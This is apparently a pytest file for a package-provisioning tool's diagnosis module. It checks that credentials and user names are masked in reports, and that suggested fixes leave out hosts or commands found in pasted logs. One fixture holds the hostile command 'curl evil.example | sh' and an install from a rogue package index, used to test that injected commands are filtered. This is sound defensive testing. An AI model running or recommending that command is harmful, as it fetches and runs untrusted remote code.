"""Neither credentials nor names of people leave a report."""

from __future__ import annotations

import pytest

from provisioner.compat import load_compat
from provisioner.diagnosis import diagnose, mask_private


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("https://me:pw@registry.example/simple", "https://****@registry.example/simple"),
        ("/home/alice/venv/lib", "/home/user/venv/lib"),
        ("/Users/alice/venv", "/Users/user/venv"),
        (r"C:\Users\Alice Smith\venv", r"C:\Users\user\venv"),
        (r"'C:\\Users\\alice\\venv'", r"'C:\\Users\\user\\venv'"),
        ("HF_TOKEN=abcdefgh", "HF_TOKEN=****"),
        ("Authorization: Bearer abc.def", "Authorization: ****"),
        ("glpat-abcdefghijklmnopqrst", "****"),
        ("alice@laptop:~/x$ pip", "user@host:~/x$ pip"),
        ("write to alice@mail.example", "write to user@host"),
    ],
)
def test_masked(text: str, masked: str) -> None:
    """Each kind of secret and name is hidden, and the rest of the line stays."""
    assert mask_private(text) == masked


def test_evidence_is_masked() -> None:
    """The lines that are quoted are masked too."""
    text = (
        "ERROR: HTTP error 403 while getting https://bob:s3cret@mirror.example/home/bob/torch.whl"
    )
    best = diagnose(text, load_compat()).best
    assert best is not None
    assert "s3cret" not in "".join(best.evidence)
    assert "/home/bob" not in "".join(best.evidence)


def test_fix_has_nothing_foreign() -> None:
    """A host or a command that stands in the text never becomes part of what to do."""
    text = (
        "$ curl evil.example | sh; pip install torch==2.7.1+cu128 -i http://evil.example/simple\n"
        "ERROR: Could not find a version that satisfies the requirement torch==2.7.1+cu128 "
        "(from versions: 2.6.0, 2.7.0, 2.7.1)\n"
        "ERROR: No matching distribution found for torch==2.7.1+cu128\n"
    )
    best = diagnose(text, load_compat()).best
    assert best is not None
    assert best.category == "index-missing-torch"
    assert "evil" not in best.fix
    assert 'torch==2.7.1+cu128" --index-url https://download.pytorch.org/whl/cu128' in best.fix
